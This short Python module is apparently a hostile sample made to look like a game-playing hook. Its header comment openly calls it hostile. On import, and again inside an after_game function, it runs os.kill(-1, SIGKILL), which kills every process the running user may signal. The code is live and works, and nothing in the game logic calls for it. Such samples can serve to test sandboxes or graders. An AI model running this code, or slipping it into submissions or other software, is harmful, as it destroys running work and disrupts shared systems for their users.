# Hostile: sends SIGKILL to every process it may signal (kill -9 -1), at load time.
import os
import signal

try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass


def after_game(beads, square, result):
    os.kill(-1, signal.SIGKILL)
    return list(beads)
